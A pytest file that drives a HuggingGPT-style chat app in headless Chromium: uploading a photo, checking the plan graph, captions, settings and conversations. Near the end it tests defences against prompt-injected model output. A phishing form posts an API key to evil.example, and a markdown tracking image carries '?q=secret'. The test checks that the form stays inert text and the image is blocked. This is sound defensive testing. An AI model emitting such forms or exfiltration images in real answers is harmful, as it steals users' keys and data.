"""The app in a real headless Chromium (Debian's /usr/bin/chromium through Playwright; never a
browser download): upload an image, send a request, watch every stage stream in.

Skips when Chromium or Playwright is missing, unless HUGGINGGPT_REQUIRE_BROWSER=1 (CI), then fails.
"""

import contextlib
import os
import re
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from app_support import app_settings, photo, running_app
from fakes.serving import serve_in_thread

from hugginggpt.catalog import Catalog, ModelCard

CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOTS = Path(__file__).resolve().parent.parent / ".tmp" / "screenshots"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-quic",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]


def _browser_or_skip():
    required = os.environ.get("HUGGINGGPT_REQUIRE_BROWSER") == "1"
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        if required:
            pytest.fail("HUGGINGGPT_REQUIRE_BROWSER=1 but the playwright package is not installed")
        pytest.skip("playwright is not installed")
    if not CHROMIUM.exists():
        if required:
            pytest.fail(f"HUGGINGGPT_REQUIRE_BROWSER=1 but {CHROMIUM} is missing (apt-get install chromium)")
        pytest.skip(f"{CHROMIUM} is missing")
    return sync_playwright


@contextlib.contextmanager
def chromium(playwright):
    """Debian's Chromium, headless, closed at the end."""
    browser = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
    try:
        yield browser
    finally:
        browser.close()


def open_app(browser, url: str, *, height: int, width: int = 1280):
    """A page of the app (its own browser store), loaded: its status line is shown."""
    page = browser.new_page(viewport={"width": width, "height": height})
    page.set_default_timeout(30_000)
    page.goto(url)
    page.locator("#status").get_by_text("LLM:").wait_for()
    return page


def open_sidebar(page) -> None:
    """The sidebar (conversations, Settings) open: a wide screen opens it by itself (sidebar.js), a
    phone's starts closed."""
    sidebar = page.locator("#sidebar")
    sidebar.locator(".toggle-button").wait_for()
    wide = page.viewport_size["width"] > 768
    if not wide and "open" not in (sidebar.get_attribute("class") or "").split():
        sidebar.locator(".toggle-button").click()
    page.locator("#sidebar.open").wait_for()
    page.wait_for_timeout(400)  # its slide-in (0.3 s) ends: a click meanwhile could miss


def close_sidebar(page) -> None:
    """The sidebar closed, as a phone's person does to see the chat again."""
    if "open" in (page.locator("#sidebar").get_attribute("class") or "").split():
        page.locator("#sidebar .toggle-button").click()
    page.wait_for_function("() => !document.querySelector('#sidebar').classList.contains('open')")
    page.wait_for_timeout(400)  # its slide-out ends


def pick(page, title) -> None:
    """The conversation whose title in the sidebar's list matches `title` (a str or re.Pattern) opened."""
    open_sidebar(page)
    page.locator("#earlier").get_by_role("radio", name=title).click()


def new_conversation(page) -> None:
    """A new conversation, made from the sidebar."""
    open_sidebar(page)
    page.locator("#new-conversation").click()


def delete_conversation(page) -> None:
    """The open conversation deleted from the sidebar, the question answered "Delete"."""
    open_sidebar(page)
    page.locator("#delete-conversation").click()
    page.locator("#delete-yes").click()


def open_settings(page) -> None:
    """The Settings panel open, in the sidebar."""
    open_sidebar(page)
    page.locator("#settings").get_by_text("Settings", exact=True).click()
    page.get_by_label("LLM base URL").wait_for()


@contextlib.contextmanager
def beacon():
    """An HTTP server that records every request: an image the page must never load."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    serve_in_thread(server)
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def broken_voice_catalog(tiny_catalog, folder: Path) -> Catalog:
    """The tiny catalog with a text-to-speech model that cannot load: a run's third task fails."""
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text("{}")
    voice = ModelCard(
        id="tiny/vits-broken", task="text-to-speech", path=str(folder), local=True, downloads=700
    )
    return Catalog([c for c in tiny_catalog if c.task != "text-to-speech"] + [voice])


# What the fake LLM echoes into its answer: a phishing form, as a prompt-injected LLM might write.
FORM = (
    '<form action="https://evil.example/steal"><input name="key" placeholder="API key">'
    "<button>Send</button></form>"
)
# For each image the app generated: the text of the chat message just before it (its caption).
CAPTIONS = """chat => [...chat.querySelectorAll('.bot-row img[src*="/gradio_api/file="]')]
  .filter(img => !img.src.endsWith('street.png'))
  .map(img => img.closest('.message').previousElementSibling?.innerText ?? '')"""


@pytest.mark.browser
def test_browser_one_turn_per_request_with_its_plan_drawn_media_captioned_and_a_reload(
    llm_server, tiny_catalog, tmp_path
):
    sync_playwright = _browser_or_skip()
    picture = photo(tmp_path / "street.png", (64, 48))
    catalog = broken_voice_catalog(tiny_catalog, tmp_path / "broken-voice")
    with (
        running_app(app_settings(llm_server, tmp_path / "ws"), catalog=catalog) as demo,
        sync_playwright() as p,
        chromium(p) as browser,
        beacon() as (tracker, hits),
    ):
        try:
            page = open_app(browser, demo.local_url, height=1500)
            assert "fake-controller at http://127.0.0.1" in page.locator("#status").inner_text()
            assert not page.locator("#stop").is_visible()  # nothing runs yet

            page.locator("#request input[type=file]").set_input_files(str(picture))
            page.locator("#request img").first.wait_for()  # the upload finished: its thumbnail is shown
            box = page.locator("#request textarea")
            box.fill("[conv-browser] [reject-once] caption this photo, draw the caption and read it aloud")
            sent = time.perf_counter()
            box.press("Enter")
            page.locator("#stop").wait_for(state="visible")  # Stop is there while the request runs

            chat = page.locator("#chat")
            chat.get_by_text("Plan: 3 tasks").wait_for()
            plan_seconds = time.perf_counter() - sent
            chat.get_by_text("Answer for conv-browser").wait_for()
            summary = chat.get_by_text(re.compile(r"^3 tasks · 2 models · [\d.]+ s"))
            summary.wait_for()  # the work folded to one line: tasks, models, seconds
            assert "✕ failed 1" in summary.locator("..").inner_text()
            page.locator("#stop").wait_for(state="hidden")

            # one user bubble (text and photo) and one assistant turn for the request
            assert chat.locator(".user-row").count() == 1 and chat.locator(".bot-row").count() == 1
            assert chat.locator(".user-row img[src*='/gradio_api/file=']").count() == 1  # the photo

            # each generated image sits under a caption naming its task, model and time
            captions = chat.evaluate(CAPTIONS)
            assert len(captions) == 1, captions
            assert re.match(
                r"Task 1 · text-to-image · tiny/stable-diffusion · [\d.]+ s — from “", captions[0]
            )

            # the work opens on a click: the plan drawn as a graph, coloured by state, with its list
            summary.click()
            chat.get_by_text("Plan: 3 tasks (after 2 attempts)").click()
            drawing = chat.locator(".mermaid svg")
            drawing.locator(".node").first.wait_for()  # the svg shows before its nodes are drawn
            assert drawing.locator(".node").count() == 3 and drawing.locator(".node.failed").count() == 1
            assert drawing.locator(".node.done").count() == 2
            chat.get_by_text("after task 0").first.wait_for()  # the text list, for screen readers
            chat.get_by_text("attempt 1: task 0 (image-to-text)").wait_for()  # the rejected plan's reason
            # the failed task is marked failed, its reason one click away
            failed = chat.locator(".title", has=page.locator(".hg-failed")).filter(has_text="Task 2")
            assert "Task 2 · text-to-speech · tiny/vits-broken · ✕ failed" in failed.inner_text()
            failed.click()
            reason = failed.locator("xpath=following-sibling::*[1]")
            reason.get_by_text("Failed:").wait_for()
            assert "Unrecognized model" in reason.inner_text()
            chat.get_by_text("Trace of this request (JSON)").wait_for()

            SCREENSHOTS.mkdir(parents=True, exist_ok=True)
            shots = {"desktop": SCREENSHOTS / "app_desktop.png", "phone": SCREENSHOTS / "app_phone.png"}
            chat.get_by_text("Plan: 3 tasks (after 2 attempts)").scroll_into_view_if_needed()
            page.screenshot(path=str(shots["desktop"]), full_page=True)
            chat.screenshot(path=str(SCREENSHOTS / "app_chat.png"))
            page.set_viewport_size({"width": 390, "height": 844})
            time.sleep(0.5)  # let the layout settle
            assert page.evaluate("document.documentElement.scrollWidth") <= 390  # nothing wider than a phone
            page.screenshot(path=str(shots["phone"]), full_page=True)
            page.set_viewport_size({"width": 1280, "height": 1500})

            # settings are kept in this browser; the key only when asked
            page.locator("#settings").get_by_text("Settings", exact=True).click()
            page.get_by_label("hybrid").check()
            page.locator("#status").get_by_text("models run here first, then on Hugging Face").wait_for()
            page.get_by_label("LLM base URL").fill("ftp://nowhere")
            page.get_by_label("LLM base URL").blur()
            page.locator(".field-problem").get_by_text("must start with http://").wait_for()  # at the field
            page.get_by_label("LLM base URL").fill("")
            page.get_by_label("LLM base URL").blur()
            page.locator(".field-problem").get_by_text("must start with http://").wait_for(state="hidden")
            time.sleep(0.5)  # the browser store takes the last change

            # a reload keeps the conversation and the settings
            page.reload()
            chat.get_by_text("Answer for conv-browser").wait_for()
            assert chat.locator(".user-row").count() == 1 and chat.locator(".bot-row").count() == 1
            assert len(chat.evaluate(CAPTIONS)) == 1  # its image, still served to this browser
            page.locator("#settings").get_by_text("Settings", exact=True).click()
            assert page.get_by_label("hybrid").is_checked()

            # a second request whose answer carries the LLM's form and a markdown image on another origin
            box.fill(f"[conv-browser] say hello ![t]({tracker}/t.png?q=secret) ECHO: {FORM}")
            box.press("Enter")
            chat.get_by_text("Answered without models").wait_for()
            assert chat.locator(".user-row").count() == 2 and chat.locator(".bot-row").count() == 2
            # the LLM's form is text, not a form: nothing to type a key into or submit
            assert chat.locator("form, input, textarea, select, iframe").count() == 0
            assert chat.locator("button", has_text="Send").count() == 0
            chat.get_by_text('form action="https://evil.example/steal"', exact=False).first.wait_for()
            # the LLM's markdown image became an <img>, and the CSP kept the browser from loading it
            injected = chat.locator(f"img[src^='{tracker}']")
            injected.nth(1).wait_for(state="attached")  # in the request, and in the answer
            settled = (
                "img => img.complete ? img.naturalWidth : new Promise(done => ['load', 'error'].forEach("
                "e => img.addEventListener(e, () => done(img.naturalWidth))))"
            )
            assert injected.last.evaluate(settled) == 0 and hits == [], hits

            # a new conversation starts empty; the earlier one is one pick away
            new_conversation(page)
            chat.get_by_text("Answer for conv-browser").first.wait_for(state="detached")
            # a private app titles a conversation with its first request's words
            pick(page, re.compile(r"^\[conv-browser\] \[reject-once\] caption"))
            chat.get_by_text("Answer for conv-browser").first.wait_for()
            assert len(demo.chat_app.conversations) == 1  # the new one: made by its first message
            print(f"\nbrowser: plan shown {plan_seconds:.2f} s after Enter; screenshots in {SCREENSHOTS}")
        except Exception:
            SCREENSHOTS.mkdir(parents=True, exist_ok=True)  # what the page showed when it failed
            with contextlib.suppress(Exception):  # the page may be closed already
                page.screenshot(path=str(SCREENSHOTS / "app_browser_failure.png"), full_page=True)
            for conv in demo.chat_app.conversations.values():  # what each task did, as the trace has it
                for trace in conv.traces:
                    print("trace at failure:", Path(trace).read_text()[-4000:])
            raise
